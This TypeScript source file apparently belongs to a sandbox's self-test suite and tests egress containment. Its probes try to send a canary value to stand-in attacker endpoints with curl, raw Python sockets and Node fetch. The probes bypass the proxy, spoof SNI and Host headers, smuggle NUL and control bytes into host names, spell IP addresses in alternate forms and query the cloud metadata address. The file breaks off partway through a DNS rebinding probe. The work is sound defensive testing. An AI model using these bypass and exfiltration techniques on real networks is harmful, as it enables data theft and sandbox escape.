// Classes 1-10 and 12: egress. Each probe tries one family of techniques from
// inside a real session against the loopback endpoints of attacker.ts, through
// whatever path the sandbox offers (the proxy variables, transparent capture,
// raw sockets, DNS). The sandbox's own network namespace cannot reach the
// host's loopback, so anything that arrives at an attacker endpoint was dialled
// by cordon: a leak, whatever the probe printed.
//
// A probe is contained when (1) nothing reached an attacker endpoint (or the
// test DNS with the canary in a name) during its session, (2) its own checks
// hold (what the legit server received, the denial text), and (3) the attempt
// is in the session's audit log. Probes whose outcome the policy grants are
// `not applicable`, with the reason.
//
// Scripts are sh with python3 doing the byte-level work; a missing tool ends
// the probe with status 125 (the runner's `error`) and the apt-get command.

import { AuditStore, type AuditRecord } from '../../audit/index.ts';
import { describeHit, findCanary, type AttackerInfo, type LegitRequest } from '../attacker.ts';
import type { Probe, ProbeContext, ProbeRun } from '../types.ts';
import { sessionRecords, unmet, type AuditExpectation } from './session-window.ts';

// ---------------------------------------------------------------------------
// Applicability and judgement

const NO_ENDPOINTS = 'not applicable: no selftest endpoints were started (network probes need the loopback attackers)';
const MODE_NONE = 'not applicable: network.mode is none (the sandbox has loopback only; there is no proxy to confuse)';

/** Runs whenever the endpoints exist (direct-dial techniques are meaningful with network.mode none too). */
const endpoints = (c: ProbeContext) => (c.fixture.attackers ? null : NO_ENDPOINTS);
/** Needs the proxy (identity, smuggling, TLS, policy rules). */
const proxied = (c: ProbeContext) => endpoints(c) ?? (c.fixture.networkMode === 'none' ? MODE_NONE : null);

interface Verdict {
  /** Records the attempt must leave in the session's audit log (checked when network.mode is proxy). */
  audit?: AuditExpectation[];
  /** What the legit endpoints received during the session. */
  legit?: (reqs: LegitRequest[], info: AttackerInfo) => string | null;
  /** The sandbox's output (stdout then stderr). */
  output?: (out: string, info: AttackerInfo) => string | null;
}

function judged(v: Verdict = {}): NonNullable<Probe['leak']> {
  return (run, c) => {
    const info = c.fixture.attackers!;
    const { from, to, records } = sessionRecords(c, run);
    const within = <T extends { at: number }>(list: T[]) => list.filter((x) => x.at <= to);
    const hits = within(info.leaksSince(from));
    if (hits.length > 0) {
      const all = [info.canary, ...Object.values(c.fixture.canaries)];
      return `${hits.length} connection(s)/message(s) reached an attacker endpoint; first: ${describeHit(hits[0]!, all)}`;
    }
    if (run.status === 125) return null; // the runner reports it as an error (a missing tool, or cordon failed)
    const out = `${run.stdout}\n${run.stderr}`;
    const o = c.fixture.networkMode === 'none' ? null : v.output?.(out, info);
    if (o) return o;
    const l = v.legit?.(within(info.legitSince(from)), info);
    if (l) return l;
    return c.fixture.networkMode !== 'none' ? unmet(records, v.audit ?? []) : null;
  };
}

const text = (r: AuditRecord) => JSON.stringify(r.data);
const isFlow = (r: AuditRecord) => r.type === 'net.flow';
const isRequest = (r: AuditRecord) => r.type === 'net.request';

/** A refused or denied flow or request, optionally mentioning `sub`. */
function blocked(what: string, min: number, sub?: string): AuditExpectation {
  return {
    what: `refused/denied flows or requests${sub ? ` naming ${sub}` : ''} (${what})`,
    min,
    pred: (r) =>
      ((isFlow(r) && ['deny', 'refused', 'ask'].includes(String(r.data.decision))) || (isRequest(r) && r.data.decision !== 'allow')) &&
      (sub === undefined || text(r).includes(sub)),
  };
}

function flowWith(what: string, min: number, pred: (d: Record<string, unknown>) => boolean): AuditExpectation {
  return { what, min, pred: (r) => isFlow(r) && pred(r.data) };
}

function dnsQueries(what: string, min: number, pred: (name: string, d: Record<string, unknown>) => boolean): AuditExpectation {
  return { what: `dns.query records (${what})`, min, pred: (r) => r.type === 'dns.query' && pred(String(r.data.name ?? ''), r.data) };
}

/** The legit servers must not have received anything that names the attacker or a denied path. */
function legitClean(...needles: string[]) {
  return (reqs: LegitRequest[]): string | null => {
    for (const q of reqs) {
      const all = `${q.method} ${q.url}\n${q.headers.map(([n, v]) => `${n}: ${v}`).join('\n')}\n${q.body.toString('latin1')}`;
      for (const n of ['attacker.cordon.test', ...needles]) {
        if (all.toLowerCase().includes(n.toLowerCase())) return `the legit server received a request carrying "${n}" (${q.endpoint}: ${q.method} ${q.url.slice(0, 80)})`;
      }
    }
    return null;
  };
}

const noLegitRequests = (reqs: LegitRequest[]) => (reqs.length > 0 ? `the legit server received ${reqs.length} request(s) that should all have been refused; first: ${reqs[0]!.method} ${reqs[0]!.url.slice(0, 80)}` : null);

/** The drip: bodies under the battery API's 1 KiB limit, enough of them to spend the budget. */
const DRIP_BODY = 900;
const DRIP_MAX_REQUESTS = 3000;
function dripPlan(b: NonNullable<ProbeContext['fixture']['budget']>): { requests: number } {
  const byBytes = b.bytesUp === null ? Infinity : Math.ceil(b.bytesUp / DRIP_BODY) + 10;
  const byCount = b.requests === null ? Infinity : b.requests + 10;
  return { requests: Math.min(byBytes, byCount) };
}

// ---------------------------------------------------------------------------
// Script building blocks

const NEED = 'need() { command -v "$1" >/dev/null 2>&1 || { echo "cordon selftest: this probe needs $1 (apt-get install -y $2)" >&2; exit 125; }; }';

function sh(c: ProbeContext, lines: string[]): string {
  const i = c.fixture.attackers!;
  return [
    NEED,
    `HP=${i.ports.http} SP=${i.ports.https} TP=${i.ports.tcp} UP=${i.ports.udp} A=${i.attackerIp} L=${i.legitIp} C='${i.canary}'`,
    ...lines,
  ].join('\n');
}

/** Constants and helpers every python probe starts with. */
function prelude(i: AttackerInfo): string {
  const consts = JSON.stringify({ attacker: i.attackerIp, legit: i.legitIp, dnsIp: i.dnsIp, ...i.ports, canary: i.canary, names: i.names });
  return [
    'import socket, ssl, os, sys, struct, time, base64, json',
    `I = json.loads(${JSON.stringify(consts)})`,
    String.raw`PX = ('198.18.0.1', 3128)
A = I['attacker']; L = I['legit']; HP = I['http']; SP = I['https']; TP = I['tcp']; UP = I['udp']; C = I['canary']; N = I['names']
ATT = N['attacker']

def line(b):
    if isinstance(b, str): return b
    if not b: return '(closed, no answer)'
    first = b.split(b'\n')[0].rstrip(b'\r')[:110]
    return first.decode('latin1').encode('unicode_escape').decode()

def say(label, r):
    print(f'{label}: {line(r)}', flush=True)

def synth(name):
    try: return socket.gethostbyname(name)
    except OSError: return None

def dial(addr, timeout=3):
    s = socket.socket(socket.AF_INET6 if ':' in addr[0] else socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try: s.connect(addr)
    except BaseException: s.close(); raise
    return s

def complete(out):
    # one whole HTTP response (Content-Length framed) is enough: keep-alive would hold the socket open
    if not out.startswith(b'HTTP/') or b'\r\n\r\n' not in out: return False
    head, _, body = out.partition(b'\r\n\r\n')
    for h in head.split(b'\r\n')[1:]:
        k, _, v = h.partition(b':')
        if k.strip().lower() == b'content-length' and v.strip().isdigit(): return len(body) >= int(v.strip())
    return head.split(b' ')[1:2] in ([b'100'], [b'101'], [b'204'], [b'304'])

def readall(s):
    out = b''
    while not complete(out):
        try: d = s.recv(65536)
        except (socket.timeout, OSError): break
        if not d: break
        out += d
    return out

def xchg(addr, data=b'', chunks=None, timeout=3):
    try: s = dial(addr, timeout)
    except OSError as e: return f'connect failed: {e}'
    try:
        for c in (chunks if chunks is not None else [data]):
            if c: s.sendall(c)
            if chunks is not None: time.sleep(0.005)
        return readall(s)
    except OSError as e: return f'error: {e}'
    finally: s.close()

def tunnel(authority, timeout=3):
    a = authority.encode('latin1') if isinstance(authority, str) else authority
    try: s = dial(PX, timeout)
    except OSError as e: return None, f'connect failed: {e}'
    s.sendall(b'CONNECT ' + a + b' HTTP/1.1\r\nHost: ' + a + b'\r\n\r\n')
    head = b''
    while b'\r\n\r\n' not in head:
        try: d = s.recv(4096)
        except OSError: break
        if not d: break
        head += d
    if head.startswith(b'HTTP/1.1 200'): return s, line(head)
    s.close()
    return None, line(head)

def req(method, target, host, headers=(), body=b''):
    h = f'{method} {target} HTTP/1.1\r\nHost: {host}\r\n' + ''.join(f'{k}: {v}\r\n' for k, v in headers)
    if body and not any(k.lower() in ('content-length', 'transfer-encoding') for k, _ in headers): h += f'Content-Length: {len(body)}\r\n'
    return (h + '\r\n').encode('latin1') + body

def unverified():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(['http/1.1'])
    return ctx

def tls_over(s, sni, ctx=None, session=None):
    try:
        return (ctx or unverified()).wrap_socket(s, server_hostname=sni, session=session), 'TLS established'
    except (OSError, ValueError) as e:
        s.close()
        return None, f'TLS failed: {e}'

def ext(t, body): return struct.pack('!HH', t, len(body)) + body

def hello(sni, pad=0, ech=False, psk=False, sni_last=False):
    """A TLS 1.3 ClientHello handshake message, built by hand."""
    exts = []
    if sni is not None:
        n = sni.encode('latin1')
        entry = b'\x00' + struct.pack('!H', len(n)) + n
        exts.append(ext(0, struct.pack('!H', len(entry)) + entry))
    exts.append(ext(10, bytes.fromhex('0004001d0017')))
    exts.append(ext(13, bytes.fromhex('0006040308040401')))
    exts.append(ext(16, bytes.fromhex('000908687474702f312e31')))
    exts.append(ext(43, bytes.fromhex('0403040303')))
    exts.append(ext(51, struct.pack('!HHH', 36, 0x1d, 32) + os.urandom(32)))
    exts.append(ext(45, b'\x01\x01'))
    if ech: exts.append(ext(0xfe0d, b'\x00' + struct.pack('!HH', 1, 1) + b'\x07' + struct.pack('!H', 32) + os.urandom(32) + struct.pack('!H', 144) + os.urandom(144)))
    if pad: exts.append(ext(21, b'\x00' * pad))
    if sni_last and sni is not None: exts.append(exts.pop(0))
    if psk:
        ident = os.urandom(96)
        ids = struct.pack('!H', len(ident)) + ident + struct.pack('!I', 12345)
        binders = b'\x20' + os.urandom(32)
        exts.append(ext(41, struct.pack('!H', len(ids)) + ids + struct.pack('!H', len(binders)) + binders))
    e = b''.join(exts)
    body = b'\x03\x03' + os.urandom(32) + b'\x20' + os.urandom(32) + struct.pack('!H', 6) + bytes.fromhex('130113021303') + b'\x01\x00' + struct.pack('!H', len(e)) + e
    return b'\x01' + len(body).to_bytes(3, 'big') + body

def records(hs, size=16384):
    return b''.join(b'\x16\x03\x01' + struct.pack('!H', len(hs[i:i + size])) + hs[i:i + size] for i in range(0, len(hs), size))

def chunked(b, n):
    return [b[i:i + n] for i in range(0, len(b), n)]

def dns_query(name, qtype=1, qid=None):
    q = struct.pack('!HHHHHH', qid if qid is not None else int.from_bytes(os.urandom(2), 'big'), 0x0100, 1, 0, 0, 0)
    for label in name.rstrip('.').split('.'):
        q += bytes([len(label)]) + label.encode('latin1')
    return q + b'\x00' + struct.pack('!HH', qtype, 1)

def dns_summary(r):
    if isinstance(r, str): return r
    if len(r) < 12: return f'{len(r)} bytes'
    rc = r[3] & 15
    return f"rcode {['NOERROR','FORMERR','SERVFAIL','NXDOMAIN','NOTIMP','REFUSED'][rc] if rc < 6 else rc}, {struct.unpack('!H', r[6:8])[0]} answers"
`,
  ].join('\n');
}

function python(c: ProbeContext, body: string): string {
  return [NEED, 'need python3 python3', "python3 - <<'CORDON_PY'", prelude(c.fixture.attackers!), body, 'CORDON_PY'].join('\n');
}

// ---------------------------------------------------------------------------
// The probes

const PROBES: Probe[] = [
  // -- 1. Proxy ignorers ------------------------------------------------------
  {
    id: 'net.env-proxy-unset',
    class: 1,
    title: 'unset every *_PROXY variable; reach the attacker by name, by address and by a forced resolution',
    applies: endpoints,
    script: (c) =>
      sh(c, [
        'need curl curl',
        'unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy NO_PROXY no_proxy',
        'for u in "http://attacker.cordon.test:$HP/?d=$C" "https://attacker.cordon.test:$SP/" "http://$A:$HP/" "http://203.0.113.66:$HP/?d=$C"; do',
        '  echo "== $u"; curl -ksS -m 4 -H "X-Data: $C" "$u" 2>&1 | head -3',
        'done',
        'echo "== forced resolution"; curl -ksS -m 4 --resolve "attacker.cordon.test:$HP:203.0.113.66" "http://attacker.cordon.test:$HP/?d=$C" 2>&1 | head -3',
      ]),
    leak: judged({
      audit: [dnsQueries('the attacker name refused by the sandbox resolver', 1, (n, d) => n === 'attacker.cordon.test' && d.decision === 'deny'), blocked('captured direct dials', 2, '203.0.113.66')],
    }),
  },
  {
    id: 'net.curl-noproxy',
    class: 1,
    title: "keep the proxy variables but bypass them: curl --noproxy '*', NO_PROXY=*, NO_PROXY=.cordon.test, python urllib",
    applies: endpoints,
    script: (c) =>
      sh(c, [
        'need curl curl',
        `curl --noproxy '*' -ksS -m 4 "http://attacker.cordon.test:$HP/?d=$C" 2>&1 | head -2`,
        'NO_PROXY="*" no_proxy="*" curl -ksS -m 4 "https://attacker.cordon.test:$SP/" 2>&1 | head -2',
        'NO_PROXY=.cordon.test no_proxy=.cordon.test curl -ksS -m 4 "http://attacker.cordon.test:$HP/" 2>&1 | head -2',
        python(c, String.raw`import urllib.request
os.environ['no_proxy'] = os.environ['NO_PROXY'] = '*'
for u in (f'http://{ATT}:{HP}/?d={C}', f'http://{A}:{HP}/'):
    try: say(u, urllib.request.urlopen(u, timeout=3).read())
    except Exception as e: say(u, f'failed: {e}')`),
      ]),
    leak: judged({ audit: [dnsQueries('the attacker name refused', 2, (n, d) => n === 'attacker.cordon.test' && d.decision === 'deny')] }),
  },
  {
    id: 'net.node-fetch',
    class: 1,
    title: "Node's fetch (undici), which never reads proxy variables, to the attacker; the legit host is reached only by capture",
    applies: endpoints,
    script: (c) =>
      sh(c, [
        // The policy may hand in a node binary (SELFTEST_NODE, mounted read-only); else the system's.
        'NODE="${SELFTEST_NODE:-node}"; [ -x "$NODE" ] || need node nodejs',
        'echo "node $("$NODE" --version)"',
        `"$NODE" - <<'CORDON_JS'`,
        `const i = ${JSON.stringify({ a: c.fixture.attackers!.ports, n: c.fixture.attackers!.names, ip: c.fixture.attackers!.attackerIp, c: c.fixture.attackers!.canary })};`,
        'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";',
        'const urls = [`http://${i.n.attacker}:${i.a.http}/?d=${i.c}`, `https://${i.n.attacker}:${i.a.https}/`, `http://${i.ip}:${i.a.http}/`, `http://${i.n.legit}:${i.a.http}/node-fetch`];',
        'for (const u of urls) {',
        '  try { const r = await fetch(u, { method: "POST", body: i.c, signal: AbortSignal.timeout(4000) }); console.log(u, r.status, (await r.text()).split("\\n")[0]); }',
        '  catch (e) { console.log(u, "failed:", e.cause?.code ?? e.message); }',
        '}',
        'CORDON_JS',
      ]),
    leak: judged({
      audit: [
        dnsQueries('the attacker name refused', 1, (n, d) => n === 'attacker.cordon.test' && d.decision === 'deny'),
        flowWith('a transparent (captured) flow for the proxy-ignoring client to the legit host', 1, (d) => d.mode === 'transparent' && d.host === 'legit.cordon.test'),
      ],
    }),
  },
  {
    id: 'net.python-socket',
    class: 1,
    title: 'raw TCP sockets with no proxy logic: to the attacker by name and address, and raw bytes to the legit host on a port no rule allows',
    applies: endpoints,
    script: (c) =>
      python(c, String.raw`for addr in [(ATT, TP), (ATT, HP), (A, TP), ('::ffff:' + A, TP), ('attacker.cordon.test.', TP)]:
    say(f'raw {addr}', xchg(addr, C.encode() + b'\n'))
lg = synth(N['legit'])
say(f'legit synthetic {lg}', lg)
if lg: say(f'raw to legit {lg}:{TP}', xchg((lg, TP), C.encode() + b'\n'))`),
    leak: judged({
      audit: [dnsQueries('the attacker name refused', 1, (n) => n === 'attacker.cordon.test'), blocked('raw TCP to the legit host on an unlisted port', 1, 'legit.cordon.test')],
    }),
  },

  // -- 2. Identity mismatch ---------------------------------------------------
  {
    id: 'net.connect-sni-mismatch',
    class: 2,
    title: 'CONNECT to an allowed host (spliced and terminated), then a ClientHello naming the attacker; the same transparently',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`for host in (N['legit'], N['api']):
    s, st = tunnel(f'{host}:{SP}')
    say(f'CONNECT {host}', st)
    if s:
        t, r = tls_over(s, ATT)
        say(f'  SNI {ATT}', r)
        if t: t.sendall(req('GET', '/api/x', f'{ATT}:{SP}')); say('  answer', readall(t))
for host in (N['legit'], N['api']):
    ip = synth(host)
    try: s = dial((ip, SP))
    except Exception as e: say(f'transparent {host}', f'failed {e}'); continue
    t, r = tls_over(s, ATT)
    say(f'transparent {host} ({ip}) SNI {ATT}', r)`),
    leak: judged({
      audit: [flowWith('flows refused for an SNI naming the attacker', 4, (d) => d.sni === 'attacker.cordon.test' && d.stage === 'identity')],
      legit: legitClean(),
    }),
  },
  {
    id: 'net.host-header-mismatch',
    class: 2,
    title: 'CONNECT and SNI name the allowed host, the Host header names the attacker (terminated TLS, plain HTTP, transparent)',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`ctx = ssl.create_default_context(cafile='/run/cordon/ca-bundle.pem')
s, st = tunnel(f"{N['api']}:{SP}")
say('CONNECT api (TLS)', st)
if s:
    t, r = tls_over(s, N['api'], ctx)
    say('  TLS', r)
    if t: t.sendall(req('GET', '/api/x?d=' + C, f'{ATT}:{SP}')); say('  Host attacker', readall(t))
s, st = tunnel(f"{N['api']}:{HP}")
say('CONNECT api (plain)', st)
if s: s.sendall(req('GET', '/api/x', f'{ATT}:{HP}')); say('  Host attacker', readall(s)); s.close()
for host in (N['legit'], N['api']):
    ip = synth(host)
    say(f'transparent {host} Host attacker', xchg((ip, HP), req('GET', '/api/x', f'{ATT}:{HP}')))
    say(f'transparent {host} Host attacker, no port', xchg((ip, HP), req('GET', '/api/x', ATT)))`),
    leak: judged({ audit: [blocked('requests whose Host names the attacker', 4)], legit: legitClean() }),
  },
  {
    id: 'net.absolute-uri-host',
    class: 2,
    title: 'absolute-form request naming one host with a Host header naming another, to the proxy and inside a transparent flow',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`lg = N['legit']
say('URI legit, Host attacker', xchg(PX, req('GET', f'http://{lg}:{HP}/', f'{ATT}:{HP}')))
say('URI attacker, Host legit', xchg(PX, req('GET', f'http://{ATT}:{HP}/?d={C}', f'{lg}:{HP}')))
say('URI legit, Host attacker (no port)', xchg(PX, req('GET', f'http://{lg}:{HP}/', ATT)))
ip = synth(lg)
say('transparent legit, URI attacker', xchg((ip, HP), req('GET', f'http://{ATT}:{HP}/', f'{lg}:{HP}')))
say('transparent legit, URI attacker, Host attacker', xchg((ip, HP), req('GET', f'http://{ATT}:{HP}/', f'{ATT}:{HP}')))`),
    leak: judged({ audit: [blocked('absolute-form requests with disagreeing names', 5)], legit: legitClean() }),
  },
  {
    id: 'net.host-spellings',
    class: 2,
    title: "the attacker's name spelled otherwise: trailing dot, upper case, default port, two Host headers, punycode and Unicode look-alikes",
    applies: proxied,
    script: (c) =>
      python(c, String.raw`for a in [f'{ATT}.:{HP}', f'ATTACKER.CORDON.TEST:{HP}', f'Attacker.Cordon.Test.:{HP}', f'{ATT}:0{HP}']:
    s, st = tunnel(a); say(f'CONNECT {a}', st)
    if s: s.sendall(req('GET', '/', a)); say('  inside', readall(s)); s.close()
for u in [f'http://{ATT}.:{HP}/', f'http://ATTACKER.cordon.test:{HP}/', f'http://{ATT}:{HP}/?d={C}']:
    say(f'GET {u}', xchg(PX, req('GET', u, u.split('/')[2])))
lg = f"{N['legit']}:{HP}"
say('two Host headers', xchg(PX, req('GET', f'http://{lg}/', lg, [('Host', f'{ATT}:{HP}')])))
say('Host with a tab', xchg(PX, req('GET', f'http://{lg}/', lg + '\t' + ATT)))
say('punycode look-alike', xchg(PX, req('GET', f'http://xn--ttacker-9of.cordon.test:{HP}/', f'xn--ttacker-9of.cordon.test:{HP}')))
s = dial(PX); s.sendall(('CONNECT \u0430ttacker.cordon.test:%d HTTP/1.1\r\nHost: x\r\n\r\n' % HP).encode('utf-8')); say('Unicode (Cyrillic a) CONNECT', readall(s)); s.close()`),
    leak: judged({ audit: [blocked("requests to the attacker's name in other spellings", 6, 'attacker.cordon.test')], legit: legitClean() }),
  },
  {
    id: 'net.no-sni-ip-sni',
    class: 2,
    title: 'TLS without a server name, and with an IP address as the server name, through CONNECT and transparently',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`s, st = tunnel(f"{N['api']}:{SP}")
if s: t, r = tls_over(s, None); say('CONNECT api, no SNI', r)
ip = synth(N['api'])
t, r = tls_over(dial((ip, SP)), None); say('transparent api, no SNI', r)
for how in ('connect', 'transparent'):
    s = tunnel(f"{N['legit']}:{SP}")[0] if how == 'connect' else dial((synth(N['legit']), SP))
    if s: s.sendall(records(hello(A))); say(f'{how} legit, SNI {A}', readall(s)); s.close()
    s = tunnel(f"{N['legit']}:{SP}")[0] if how == 'connect' else dial((synth(N['legit']), SP))
    if s: s.sendall(records(hello(None))); say(f'{how} legit, no SNI (raw hello)', readall(s)); s.close()`),
    leak: judged({
      audit: [flowWith('flows refused at the identity check (no SNI, or an IP literal as SNI)', 5, (d) => d.stage === 'identity' && /server name|SNI/i.test(String(d.reason)))],
      legit: legitClean(),
    }),
  },
  {
    id: 'net.control-bytes',
    class: 2,
    title: 'NUL and control bytes, spaces, userinfo, percent-escapes, "#" and "\\" in CONNECT targets, absolute URIs and Host headers',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`lg = N['legit'].encode()
at = ATT.encode()
p = str(HP).encode()
targets = [at + b'\x00.' + lg, lg + b'\x00' + at, at + b'\t.' + lg, at + b'\x7f.' + lg, at + b'\x1b.' + lg, at + b' .' + lg,
           lg + b'@' + at, at + b'%00.' + lg, at + b'%2e' + lg, at + b'#.' + lg, at + b'\\.' + lg, at + b'\r\n.' + lg]
for t in targets:
    s = dial(PX); s.sendall(b'CONNECT ' + t + b':' + p + b' HTTP/1.1\r\nHost: ' + t + b':' + p + b'\r\n\r\n'); say(f'CONNECT {t!r}', readall(s)); s.close()
for t in targets[:4] + targets[6:8]:
    s = dial(PX); s.sendall(b'GET http://' + t + b':' + p + b'/ HTTP/1.1\r\nHost: ' + t + b':' + p + b'\r\n\r\n'); say(f'GET {t!r}', readall(s)); s.close()
ip = synth(N['legit'])
s = dial((ip, HP)); s.sendall(b'GET / HTTP/1.1\r\nHost: ' + lg + b'\x00' + at + b'\r\n\r\n'); say('transparent Host with NUL', readall(s)); s.close()`),
    leak: judged({ audit: [blocked('names with control bytes refused', 15)], legit: legitClean() }),
  },
  {
    id: 'net.socks-hostnames',
    class: 2,
    title: "SOCKS5 and SOCKS4a with NUL-bearing host names, to the proxy's own address and to captured addresses",
    applies: proxied,
    script: (c) =>
      sh(c, [
        python(c, String.raw`name = ATT.encode() + b'\x00.' + N['legit'].encode()
s5 = b'\x05\x01\x00' + b'\x05\x01\x00\x03' + bytes([len(name)]) + name + struct.pack('!H', HP) + req('GET', '/', ATT)
s4a = b'\x04\x01' + struct.pack('!H', HP) + b'\x00\x00\x00\x01' + b'agent\x00' + name + b'\x00' + req('GET', '/', ATT)
for addr in [PX, ('203.0.113.66', 1080), (synth(N['legit']), HP), ('198.18.0.1', 1080)]:
    say(f'SOCKS5 to {addr}', xchg(addr, s5))
    say(f'SOCKS4a to {addr}', xchg(addr, s4a))`),
        'need curl curl',
        'curl -sS -m 4 --socks5-hostname 198.18.0.1:3128 "http://attacker.cordon.test:$HP/?d=$C" 2>&1 | head -2',
        'curl -sS -m 4 --socks4a 198.18.0.1:3128 "http://attacker.cordon.test:$HP/?d=$C" 2>&1 | head -2',
      ]),
    leak: judged({ audit: [blocked('SOCKS handshakes refused', 8)] }),
  },

  // -- 3. IP literals and address classes --------------------------------------
  {
    id: 'net.ip-literal-spellings',
    class: 3,
    title: "the attacker's IPv4 address spelled every way: dotted, decimal, octal, hex, short forms; via CONNECT and absolute-form",
    applies: proxied,
    script: (c) =>
      python(c, String.raw`forms = [A, '2135031809', '0177.0102.0.01', '0x7f.0x42.0.1', '0x7f420001', '127.66.1', '0177.66.1', '127.0x42.0.01', '127.66.0.1.']
for f in forms:
    s, st = tunnel(f'{f}:{HP}'); say(f'CONNECT {f}', st)
    if s: s.sendall(req('GET', '/?d=' + C, f)); say('  inside', readall(s)); s.close()
    say(f'GET http://{f}', xchg(PX, req('GET', f'http://{f}:{HP}/?d={C}', f'{f}:{HP}')))`),
    leak: judged({ audit: [blocked('attempts on the attacker address, canonicalised', 14, '127.66.0.1')] }),
  },
  {
    id: 'net.ipv6-embedded',
    class: 3,
    title: "the attacker inside IPv6: ::ffff: mapped, IPv4-compatible, NAT64, 6to4, Teredo; [::1]; a name whose address is IPv4-mapped",
    applies: proxied,
    script: (c) =>
      python(c, String.raw`forms = ['[::ffff:127.66.0.1]', '[::ffff:7f42:1]', '[::127.66.0.1]', '[64:ff9b::7f42:1]', '[64:ff9b::127.66.0.1]', '[2002:7f42:1::1]',
         '[2001:0:4136:e378:8000:63bf:80bd:fffe]', '[::1]', '[0:0:0:0:0:0:0:1]', '[::]', N['mapped']]
for f in forms:
    s, st = tunnel(f'{f}:{HP}'); say(f'CONNECT {f}', st)
    if s: s.sendall(req('GET', '/', f)); say('  inside', readall(s)); s.close()
    say(f'GET http://{f}', xchg(PX, req('GET', f'http://{f}:{HP}/?d={C}', f'{f}:{HP}')))`),
    leak: judged({ audit: [blocked('attempts on IPv6 forms of loopback addresses', 18)] }),
  },
  {
    id: 'net.special-ranges',
    class: 3,
    title: 'CGNAT, link-local, cloud metadata (169.254.169.254, fd00:ec2::254, 100.100.100.200), broadcast, multicast and zone ids',
    applies: proxied,
    script: (c) =>
      sh(c, [
        python(c, String.raw`for f in ['100.64.0.1', '169.254.169.254', '169.254.170.2', '[fd00:ec2::254]', '100.100.100.200', '0.0.0.0', '0', '255.255.255.255', '224.0.0.1', '[fe80::1%25lo]', '[fe80::1%lo]', '[ff02::1]']:
    s, st = tunnel(f'{f}:80'); say(f'CONNECT {f}', st)
    if s: s.close()
    say(f'GET http://{f}/latest/meta-data/', xchg(PX, req('GET', f'http://{f}/latest/meta-data/', f)))`),
        'need curl curl',
        'echo "== captured direct dial to the metadata address"; curl --noproxy "*" -sS -m 4 http://169.254.169.254/latest/meta-data/ 2>&1 | head -2',
      ]),
    leak: judged({ audit: [blocked('attempts on special-purpose addresses', 18)] }),
  },
  {
    id: 'net.allowed-name-private-address',
    class: 3,
    title: "an allowed name whose address is the attacker's (loopback): HTTP, CONNECT, raw TCP and transparent flows must be refused at dial time",
    applies: proxied,
    script: (c) =>
      sh(c, [
        'need curl curl',
        'curl -sS -m 4 "http://private.cordon.test:$HP/?d=$C" 2>&1 | head -4',
        'curl -ksS -m 4 "https://private.cordon.test:$SP/" 2>&1 | head -2',
        `curl --noproxy '*' -sS -m 4 "http://private.cordon.test:$HP/" 2>&1 | head -4`,
        python(c, String.raw`ip = synth(N['private'])
say(f'raw TCP to {ip}:{TP}', xchg((ip, TP), C.encode()))`),
      ]),
    leak: judged({
      audit: [blocked('dials refused for the address class', 3, 'private.cordon.test')],
      output: (out) => (/resolves only to addresses cordon does not connect to/.test(out) ? null : 'the agent was not told why private.cordon.test was refused'),
    }),
  },

  {
    id: 'net.private-exception-port',
    class: 3,
    title: 'a private address the policy allows by IP on some ports, reached through an allowed name on another port',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`edge = N['edge']
s, st = tunnel(f'{edge}:{TP}'); say(f'CONNECT {edge}:{TP}', st)
if s: s.sendall(req('GET', '/?d=' + C, f'{edge}:{TP}')); say('  HTTP inside', readall(s)); s.close()
s, st = tunnel(f'{L}:{TP}'); say(f'CONNECT {L}:{TP} (the address itself, port not granted)', st)
if s: s.close()
ip = synth(edge)
say(f'transparent {edge}:{TP}', xchg((ip, TP), req('GET', '/?d=' + C, f'{edge}:{TP}')) if ip else 'no synthetic address')`),
    leak: judged({ audit: [blocked('dials to the private address on a port no rule grants it', 2, '127.77.0.1')] }),
  },

  {
    id: 'net.lan-host',
    class: 3,
    title: 'a private address one hop away that the host can reach (a LAN host in a network namespace): by allowed name, IP literal and its other spellings, CONNECT, direct and raw',
    applies: (c) => proxied(c) ?? (c.fixture.attackers!.lan ? null : `not applicable: ${c.fixture.attackers!.lanUnavailable ?? 'no LAN host'}`),
    script: (c) => {
      const lan = c.fixture.attackers!.lan!;
      const [a, b, cc, d] = lan.ip.split('.').map(Number) as [number, number, number, number];
      const int = ((a << 24) >>> 0) + (b << 16) + (cc << 8) + d;
      const forms = [lan.ip, String(int), `0x${int.toString(16)}`, `${a}.${(b << 16) + (cc << 8) + d}`, `0${a.toString(8)}.${b}.${cc}.${d}`, `::ffff:${lan.ip}`];
      return sh(c, [
        'need curl curl',
        `LAN=${lan.ip} LN=${c.fixture.attackers!.names.lan}`,
        'echo "== by the allowed name, through the proxy"',
        'curl -sS -m 4 "http://$LN/?d=$C" 2>&1 | head -4',
        'curl -ksS -m 4 "https://$LN/" 2>&1 | head -2',
        'curl -sS -m 4 "http://$LN:8080/?d=$C" 2>&1 | head -4',
        'echo "== direct, ignoring the proxy (captured)"',
        `curl --noproxy '*' -sS -m 4 "http://$LAN/?d=$C" 2>&1 | head -2`,
        python(c, String.raw`lan = ${JSON.stringify(lan.ip)}
for f in ${JSON.stringify(forms)}:
    a = f'[{f}]' if ':' in f else f
    s, st = tunnel(f'{a}:80'); say(f'CONNECT {a}:80', st)
    if s: s.sendall(req('GET', '/?d=' + C, f'{a}')); say('  inside', readall(s)); s.close()
    say(f'GET http://{a}/', xchg(PX, req('GET', f'http://{a}/?d={C}', a)))
say(f'raw TCP to {lan}:8080', xchg((lan, 8080), C.encode()))
ip = synth(N['lan'])
say(f'transparent {N["lan"]} ({ip})', xchg((ip, 80), req('GET', '/?d=' + C, N['lan'])) if ip else 'no synthetic address')`),
      ]);
    },
    leak: judged({
      audit: [blocked('dials to the LAN address refused for its class', 4)],
      output: (out) => (/the name resolves only to addresses cordon does not connect to/.test(out) ? null : 'the agent was not told why the LAN name was refused'),
    }),
  },

  // -- 4. DNS rebinding -------------------------------------------------------
  {
    id: 'net.rebind-several-addresses',
    class: 4,
    title: "an allowed name with several addresses, the attacker's first: only the permitted address may be dialled",
    applies: proxied,
    script: (c) =>
      sh(c, [
